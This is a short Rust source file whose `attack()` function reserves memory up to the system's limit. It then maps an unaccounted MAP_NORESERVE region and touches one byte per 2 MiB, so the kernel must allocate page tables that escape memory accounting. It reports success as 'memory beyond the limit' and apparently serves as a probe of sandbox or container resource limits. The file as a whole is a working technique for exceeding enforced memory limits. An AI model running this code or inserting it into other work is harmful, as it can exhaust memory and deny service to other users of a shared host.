use std::io;
use std::sync::atomic::{AtomicBool, Ordering};

unsafe extern "C" {
    fn mmap(at: *mut u8, length: usize, access: i32, kind: i32, file: i32, from: i64) -> *mut u8;
    fn munmap(at: *mut u8, length: usize) -> i32;
    fn madvise(at: *mut u8, length: usize, advice: i32) -> i32;
}

const LENGTH: usize = 64 << 20;
/// Each page of a table of tables leads to so much, whether or not there is something.
const STEP: usize = 2 << 20;
/// 16 MiB of tables, which is all that a cue has time for.
const TABLES: usize = 4096;
const UNCOUNTED: i32 = 0x4000;
const NO_HUGE_PAGES: i32 = 15;
const PRIVATE_ANONYMOUS: i32 = 0x02 | 0x20;
const READ: i32 = 1;
const READ_AND_WRITE: i32 = 3;
static TRIED: AtomicBool = AtomicBool::new(false);

fn mapped(length: usize, access: i32, kind: i32, file: i32) -> Option<*mut u8> {
    let at = unsafe { mmap(std::ptr::null_mut(), length, access, kind, file, 0) };
    (at as isize != -1).then_some(at)
}

/// Once all that it may have is reserved, everything else is too much. Where there is no limit, everything else is, too.
pub fn attack() -> io::Result<Option<String>> {
    if TRIED.swap(true, Ordering::SeqCst) {
        return Ok(None);
    }
    let all: Vec<*mut u8> = (0..64).map_while(|_| mapped(LENGTH, READ_AND_WRITE, PRIVATE_ANONYMOUS, -1)).collect();
    let got = beyond();
    all.iter().for_each(|at| {
        unsafe { munmap(*at, LENGTH) };
    });
    got.map(|got| got.then(|| "memory beyond the limit".to_string()))
}

fn beyond() -> io::Result<bool> {
    let length = STEP * TABLES;
    let Some(at) = mapped(length, READ, PRIVATE_ANONYMOUS | UNCOUNTED, -1) else {
        return Err(io::Error::last_os_error());
    };
    unsafe { madvise(at, length, NO_HUGE_PAGES) };
    for place in (0..length).step_by(STEP) {
        unsafe { at.add(place).read_volatile() };
    }
    Ok(unsafe { munmap(at, length) } == 0)
}
